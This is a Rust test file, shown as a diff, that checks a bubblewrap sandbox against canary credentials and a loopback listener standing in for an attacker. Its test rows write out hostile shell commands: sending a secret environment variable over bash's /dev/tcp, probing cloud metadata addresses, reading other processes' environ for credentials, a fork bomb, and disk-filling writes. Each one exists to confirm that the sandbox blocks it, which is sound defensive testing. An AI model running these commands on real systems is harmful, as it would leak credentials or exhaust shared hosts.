@@ -1,0 +1,525 @@
+//! Tier 2 (bubblewrap): the CATALOGUE 2c rows the sandbox enforces, each asserting the specific
+//! denial, run under the canary rule.
+//!
+//! `tier2_rows_hold_under_canaries` re-runs this test binary as a child process whose
+//! environment holds canary credentials and a loopback "attacker" port; the child runs every
+//! `row_*` test (ignored in a normal run) against a toolset whose shell runs in bubblewrap.
+//! The parent fails if any row failed, if a canary appears in the child's output, or if the
+//! attacker listener received a single connection.
+//!
+//! When the host cannot run tier 2 the test is skipped with a printed reason, unless
+//! `REQUIRE_ISOLATION=1` is set (CI): then it fails, so a tier that silently does not engage
+//! cannot pass.
+
+use std::io::Read as _;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use hands_protocol::toolset::ToolOutput;
+use hands_sandbox::{
+    BwrapSandbox, DEFAULT_HIDDEN, HostProbe, Isolation, IsolationMode, SocketBind, Tier,
+    Tier2Options,
+};
+use serde_json::json;
+
+use crate::common::*;
+
+const CHILD: &str = "HANDS_ISOLATION_CHILD";
+const PORT: &str = "HANDS_ISOLATION_ATTACKER_PORT";
+const KEY: &str = "canary-envkey-iso-61d0";
+const AWS: &str = "canary-aws-iso-0b7c2e";
+const SERVICE: &str = "canary-service-iso-9a4f";
+const CANARIES: [&str; 3] = [KEY, AWS, SERVICE];
+/// The rows the child must run; a filtered-out row would otherwise "pass" by not running.
+const ROWS: usize = 10;
+/// Size of the sandbox's `/tmp` in these tests.
+const TMP_BYTES: u64 = 1024 * 1024;
+
+fn required() -> bool {
+    std::env::var("REQUIRE_ISOLATION").is_ok_and(|v| v == "1")
+}
+
+/// The tier-2 sandbox with `options`, or `None` after printing why it cannot run here. With
+/// `REQUIRE_ISOLATION=1` a host that cannot run it fails the test instead.
+fn tier2(options: Tier2Options) -> Option<BwrapSandbox> {
+    let probe = HostProbe::run();
+    match probe.select(IsolationMode::Tier(Tier::Bwrap), true) {
+        Ok(_) => probe.bwrap_sandbox(options),
+        Err(e) if required() => panic!("REQUIRE_ISOLATION=1 but tier 2 cannot engage: {e}"),
+        Err(e) => {
+            eprintln!("skipping the tier 2 rows: {e}");
+            None
+        }
+    }
+}
+
+#[test]
+fn tier2_rows_hold_under_canaries() {
+    if tier2(Tier2Options::default()).is_none() {
+        return;
+    }
+    // The attacker: listens on every host address; counts connections and bytes.
+    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let connections = Arc::new(AtomicUsize::new(0));
+    let bytes = Arc::new(AtomicUsize::new(0));
+    {
+        let (connections, bytes) = (connections.clone(), bytes.clone());
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                connections.fetch_add(1, Ordering::SeqCst);
+                let mut buf = Vec::new();
+                let _ = (&stream).take(1 << 20).read_to_end(&mut buf);
+                bytes.fetch_add(buf.len(), Ordering::SeqCst);
+            }
+        });
+    }
+    let out = Command::new(std::env::current_exe().unwrap())
+        .args(["isolation::row_", "--include-ignored", "--test-threads=1"])
+        .env(CHILD, "1")
+        .env(PORT, port.to_string())
+        .env("ANTHROPIC_ENVIRONMENT_KEY", KEY)
+        .env("AWS_SECRET_ACCESS_KEY", AWS)
+        .env("AWS_ACCESS_KEY_ID", "AKIACANARYISO000")
+        .env("SERVICE_KEY", SERVICE)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    println!("{stdout}");
+    assert!(
+        out.status.success() && stdout.contains(&format!("{ROWS} passed; 0 failed")),
+        "tier 2 rows failed:\n{stdout}\n{stderr}"
+    );
+    for canary in CANARIES {
+        assert!(
+            !stdout.contains(canary) && !stderr.contains(canary),
+            "canary {canary} leaked"
+        );
+    }
+    assert_eq!(
+        (
+            connections.load(Ordering::SeqCst),
+            bytes.load(Ordering::SeqCst)
+        ),
+        (0, 0),
+        "the attacker listener was reached from the sandbox"
+    );
+}
+
+/// In the child: the fixture with the shell in bubblewrap (`None` when tier 2 cannot run).
+fn fixture(
+    options: Tier2Options,
+    configure: impl FnOnce(&mut hands_tools::ToolsetConfig),
+) -> Option<Fixture> {
+    assert_eq!(
+        std::env::var(CHILD).as_deref(),
+        Ok("1"),
+        "run through tier2_rows_hold_under_canaries"
+    );
+    let sandbox = tier2(options)?;
+    Some(Fixture::with(|c| {
+        c.isolation = Isolation::Bwrap(sandbox);
+        configure(c);
+    }))
+}
+
+fn options() -> Tier2Options {
+    Tier2Options {
+        tmp_bytes: TMP_BYTES,
+        ..Tier2Options::default()
+    }
+}
+
+/// Runs `command` in the fixture's shell and checks the canary rule on the result.
+async fn bash(fx: &Fixture, command: &str) -> ToolOutput {
+    let out = fx.call("bash", json!({ "command": command })).await;
+    let shown = fx.shown(&out);
+    for canary in CANARIES {
+        assert!(
+            !shown.contains(canary),
+            "canary in the result of {command:?}: {shown}"
+        );
+    }
+    out
+}
+
+async fn shown(fx: &Fixture, command: &str) -> String {
+    let out = bash(fx, command).await;
+    fx.shown(&out)
+}
+
+/// A directory outside `/tmp` (which is a fresh tmpfs inside the sandbox), removed on drop.
+struct HostDir(PathBuf);
+
+impl HostDir {
+    fn new() -> HostDir {
+        let dir = tempfile::Builder::new()
+            .prefix("hands-iso-")
+            .tempdir_in("/var/tmp")
+            .unwrap()
+            .keep();
+        HostDir(std::fs::canonicalize(dir).unwrap())
+    }
+}
+
+impl Drop for HostDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+// T1: the sandbox's environment is the allow-list, nothing of the worker's (bwrap got
+// `--clearenv`, pitfall 6).
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t1_environment_is_the_allow_list() {
+    let Some(fx) = fixture(options(), |_| {}) else {
+        return;
+    };
+    let env = shown(&fx, "env | cut -d= -f1 | sort | tr '\\n' ' '").await;
+    assert!(
+        env.contains("PATH ") && env.contains("HANDS_SWEEP_TAG "),
+        "{env}"
+    );
+    for name in ["ANTHROPIC_", "AWS_", "SERVICE_KEY", CHILD, PORT] {
+        assert!(!env.contains(name), "{name} reached the sandbox: {env}");
+    }
+    // `cat` opens the file itself: a descriptor opened before `exec` reads the old, gone
+    // memory map and yields nothing, which would pass vacuously.
+    let environ = shown(&fx, "cat /proc/self/environ | tr '\\0' '\\n' | cut -d= -f1").await;
+    assert!(
+        !environ.contains("AWS_") && environ.contains("PATH"),
+        "{environ}"
+    );
+    fx.tools.shutdown().await;
+}
+
+// T2: the worker is not visible at all: the sandbox has its own pid namespace and /proc, in
+// which the shell is pid 1.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t2_worker_is_invisible() {
+    let Some(fx) = fixture(options(), |_| {}) else {
+        return;
+    };
+    let worker = std::process::id();
+    assert!(
+        worker > 64,
+        "the worker's pid {worker} could exist in the sandbox too"
+    );
+    let out = shown(&fx, &format!("cat /proc/{worker}/environ")).await;
+    assert!(out.contains("No such file or directory"), "{out}");
+    let out = shown(&fx, &format!("ls -l /proc/{worker}/fd")).await;
+    assert!(out.contains("No such file or directory"), "{out}");
+    let out = shown(&fx, &format!("kill -0 {worker}")).await;
+    assert!(out.contains("No such process"), "{out}");
+    // The shell is pid 1; /proc lists nothing of the host.
+    let out = shown(&fx, "echo $$; tr '\\0' ' ' < /proc/1/cmdline").await;
+    assert!(out.starts_with("1\n") && out.contains("bash"), "{out}");
+    let out = shown(
+        &fx,
+        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c canary",
+    )
+    .await;
+    assert_eq!(out, "0");
+    fx.tools.shutdown().await;
+}
+
+// T3: the worker's secret files and credential directories are masked: neither a file nor a
+// directory can be opened (EACCES), while an unmasked sibling stays readable (so the masks, not a
+// missing path, are what the assertions see).
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t3_secret_files_are_masked() {
+    let host = HostDir::new();
+    let key = host.0.join("environment-key");
+    let secrets = host.0.join("secrets");
+    let visible = host.0.join("visible.txt");
+    std::fs::write(&key, SECRET).unwrap();
+    std::fs::create_dir(&secrets).unwrap();
+    std::fs::write(secrets.join("aws"), SECRET).unwrap();
+    std::fs::write(&visible, "visible").unwrap();
+    let mut hide: Vec<PathBuf> = DEFAULT_HIDDEN.iter().map(PathBuf::from).collect();
+    hide.extend([key.clone(), secrets.clone()]);
+    let Some(fx) = fixture(Tier2Options { hide, ..options() }, |_| {}) else {
+        return;
+    };
+    assert_eq!(
+        shown(&fx, &format!("cat {}", visible.display())).await,
+        "visible"
+    );
+    // The mask is the host's /dev/null bound over the file, on a mount that allows no device
+    // nodes: opening it fails.
+    let out = shown(&fx, &format!("cat {}", key.display())).await;
+    assert!(
+        out.contains("Permission denied"),
+        "the key file is not masked: {out}"
+    );
+    let out = shown(&fx, &format!("ls {}", secrets.display())).await;
+    assert!(out.contains("Permission denied"), "{out}");
+    let out = shown(&fx, &format!("cat {}/aws", secrets.display())).await;
+    assert!(out.contains("Permission denied"), "{out}");
+    fx.tools.shutdown().await;
+}
+
+/// An address of this host other than loopback, if it has one.
+fn host_address() -> Option<std::net::IpAddr> {
+    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    s.connect("192.0.2.1:9").ok()?;
+    s.local_addr()
+        .ok()
+        .map(|a| a.ip())
+        .filter(|ip| !ip.is_loopback())
+}
+
+// T4: no network. Loopback inside is the sandbox's own (nothing listens: ECONNREFUSED, while
+// the attacker listens on the host's), every other address is unreachable (ENETUNREACH), UDP
+// and the metadata address too. bash's /dev/tcp is a builtin, so a missing binary cannot pass
+// (pitfall 8); the parent asserts the listener saw no connection.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t4_no_network() {
+    let Some(fx) = fixture(options(), |_| {}) else {
+        return;
+    };
+    let port: u16 = std::env::var(PORT).unwrap().parse().unwrap();
+    let out = shown(
+        &fx,
+        &format!("echo \"$SERVICE_KEY\" > /dev/tcp/127.0.0.1/{port}"),
+    )
+    .await;
+    assert!(out.contains("Connection refused"), "{out}");
+    if let Some(ip) = host_address() {
+        let out = shown(&fx, &format!("echo leak > /dev/tcp/{ip}/{port}")).await;
+        assert!(out.contains("Network is unreachable"), "{out}");
+    }
+    for target in ["169.254.169.254/80", "169.254.170.2/80", "10.0.0.1/443"] {
+        let out = shown(&fx, &format!("echo leak > /dev/tcp/{target}")).await;
+        assert!(out.contains("Network is unreachable"), "{target}: {out}");
+    }
+    let out = shown(&fx, "echo leak > /dev/udp/8.8.8.8/53").await;
+    assert!(out.contains("Network is unreachable"), "{out}");
+    fx.tools.shutdown().await;
+}
+
+// The egress seam: one unix socket of the host bound into the sandbox is reachable (the only
+// way out), while TCP is not.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_egress_seam_binds_one_unix_socket() {
+    let host = HostDir::new();
+    let path = host.0.join("egress.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    std::thread::spawn(move || {
+        if let Ok((mut stream, _)) = listener.accept() {
+            use std::io::Write as _;
+            let mut buf = [0u8; 1024];
+            let _ = stream.read(&mut buf);
+            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nrelayed");
+        }
+    });
+    let Some(fx) = fixture(
+        Tier2Options {
+            socket: Some(SocketBind {
+                host: path.clone(),
+                sandbox: "/tmp/egress.sock".into(),
+            }),
+            ..options()
+        },
+        |_| {},
+    ) else {
+        return;
+    };
+    let curl = Path::new("/usr/bin/curl");
+    assert!(curl.exists(), "the seam test needs /usr/bin/curl");
+    let out = shown(
+        &fx,
+        "/usr/bin/curl -sS --max-time 5 --unix-socket /tmp/egress.sock http://proxy/",
+    )
+    .await;
+    assert_eq!(out, "relayed");
+    fx.tools.shutdown().await;
+}
+
+// T5: a fork bomb is held by the pids cgroup, the result says so in plain words, the worker's
+// other tools answer meanwhile, and the shell works again afterwards.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t5_fork_bomb_is_contained() {
+    if let Err(e) = hands_sandbox::PidsCgroup::create("probe-t5", 8) {
+        if required() {
+            panic!("REQUIRE_ISOLATION=1 but no pids cgroup: {e}");
+        }
+        eprintln!("skipping T5 under tier 2: {e}");
+        return;
+    }
+    let Some(fx) = fixture(options(), |c| c.rlimits.max_pids = Some(64)) else {
+        return;
+    };
+    fx.write("note.txt", "still here");
+    // A loop in the foreground: forks fail at the limit until the timeout ends it.
+    let bomb = fx.call(
+        "bash",
+        json!({"command": "while true; do sleep 1000 & done", "timeout_ms": 3000}),
+    );
+    let reads = async {
+        let mut ok = 0;
+        for _ in 0..20 {
+            let out = fx.call("read", json!({"file_path": "note.txt"})).await;
+            if !out.is_error {
+                ok += 1;
+            }
+            tokio::task::yield_now().await;
+        }
+        ok
+    };
+    let (bomb, reads) = tokio::join!(bomb, reads);
+    let text = fx.shown(&bomb);
+    assert!(
+        bomb.is_error && text.contains("bash: bash command timed out after 3.0s"),
+        "{text}"
+    );
+    assert!(
+        text.contains("[resource limit: the process limit (64 at once) was reached;"),
+        "{text}"
+    );
+    assert_eq!(reads, 20, "file tools stopped answering during the bomb");
+    // The classic bomb backgrounds itself at once; the sweep ends it with the call.
+    let out = bash(&fx, ":(){ :|:& };:").await;
+    assert!(!out.is_error, "{}", fx.shown(&out));
+    assert_eq!(shown(&fx, "echo alive").await, "alive");
+    fx.tools.shutdown().await;
+}
+
+// T6: the sandbox's /tmp and /dev/shm are size-capped tmpfs (ENOSPC), and the file-size rlimit
+// still bounds a file in the workspace.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t6_disk_quota() {
+    let Some(fx) = fixture(options(), |c| {
+        c.rlimits.file_size_bytes = Some(4 * 1024 * 1024);
+    }) else {
+        return;
+    };
+    let fill = 2 * TMP_BYTES;
+    for dir in ["/tmp", "/dev/shm"] {
+        let out = shown(&fx, &format!("head -c {fill} /dev/zero > {dir}/fill")).await;
+        assert!(out.contains("No space left on device"), "{dir}: {out}");
+    }
+    let out = shown(&fx, "head -c 8388608 /dev/zero > big; echo rc=$?").await;
+    assert!(out.contains("File size limit exceeded"), "{out}");
+    assert_eq!(
+        std::fs::metadata(fx.path("big")).unwrap().len(),
+        4 * 1024 * 1024
+    );
+    fx.tools.shutdown().await;
+}
+
+// Writes outside the workspace: the root is read-only (EROFS), the host's /tmp (where the
+// fixture's `outside` lives) is not even there, and the workspace itself is writable and
+// shared with the file tools.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_writes_outside_the_workspace_are_refused() {
+    let Some(fx) = fixture(options(), |_| {}) else {
+        return;
+    };
+    for path in [
+        "/etc/hands-probe",
+        "/usr/local/hands-probe",
+        "/root/hands-probe",
+    ] {
+        let out = shown(&fx, &format!("touch {path}")).await;
+        assert!(out.contains("Read-only file system"), "{path}: {out}");
+    }
+    let out = shown(&fx, &format!("cat {}/secret.txt", fx.outside.display())).await;
+    assert!(out.contains("No such file or directory"), "{out}");
+    assert_eq!(
+        shown(&fx, "echo made-inside > made.txt && cat made.txt").await,
+        "made-inside"
+    );
+    let read = fx.call("read", json!({"file_path": "made.txt"})).await;
+    assert!(fx.shown(&read).contains("made-inside"));
+    fx.tools.shutdown().await;
+}
+
+// T9: a survivor that left the session and cleared its environment (nothing ties it to the
+// shell at tier 0 once the shell is gone) still dies with the namespace.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_t9_namespace_teardown_leaves_no_survivor() {
+    let Some(fx) = fixture(options(), |_| {}) else {
+        return;
+    };
+    let marker = "7431.25";
+    let out = bash(
+        &fx,
+        &format!("(setsid env -i /bin/sleep {marker} > /dev/null 2>&1 &); echo started"),
+    )
+    .await;
+    assert_eq!(fx.shown(&out), "started");
+    fx.tools.shutdown().await;
+    let alive = host_processes_with_arg(marker);
+    assert!(alive.is_empty(), "survivors: {alive:?}");
+}
+
+fn host_processes_with_arg(arg: &str) -> Vec<i32> {
+    let mut pids = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Some(pid) = entry
+            .file_name()
+            .to_str()
+            .and_then(|s| s.parse::<i32>().ok())
+        else {
+            continue;
+        };
+        let Ok(cmdline) = std::fs::read(format!("/proc/{pid}/cmdline")) else {
+            continue;
+        };
+        if cmdline.split(|&b| b == 0).any(|a| a == arg.as_bytes())
+            && hands_sandbox::pid_is_alive(pid)
+        {
+            pids.push(pid);
+        }
+    }
+    pids
+}
+
+// Custom tools (one-shot processes) run in the same sandbox: own pid namespace, no network,
+// and the exit status comes through.
+#[tokio::test]
+#[ignore = "run by tier2_rows_hold_under_canaries"]
+async fn row_oneshot_runs_in_the_sandbox() {
+    use tokio::io::AsyncReadExt as _;
+    assert_eq!(std::env::var(CHILD).as_deref(), Ok("1"));
+    let Some(sandbox) = tier2(options()) else {
+        return;
+    };
+    let ws = tempfile::tempdir().unwrap();
+    let spec = hands_sandbox::OneShotSpec {
+        program: "/bin/bash".into(),
+        args: vec![
+            "-c".into(),
+            "echo pid=$$; echo x > /dev/tcp/10.0.0.1/80; env | grep -c -e AWS_ -e SERVICE_KEY; exit 3"
+                .into(),
+        ],
+        cwd: std::fs::canonicalize(ws.path()).unwrap(),
+        env: hands_sandbox::EnvPolicy::default().build(std::env::vars_os()),
+        rlimits: hands_sandbox::Rlimits::default(),
+        isolation: Isolation::Bwrap(sandbox),
+        binds: hands_sandbox::Binds::default(),
+    };
+    let mut p = hands_sandbox::spawn_oneshot(&spec).unwrap();
+    drop(p.stdin);
+    let (mut out, mut err) = (String::new(), String::new());
+    p.stdout.read_to_string(&mut out).await.unwrap();
+    p.stderr.read_to_string(&mut err).await.unwrap();
+    let status = p.child.wait().await.unwrap();
+    assert_eq!(status.code(), Some(3), "{out}{err}");
+    assert_eq!(out, "pid=1\n0\n");
+    assert!(err.contains("Network is unreachable"), "{err}");
+}
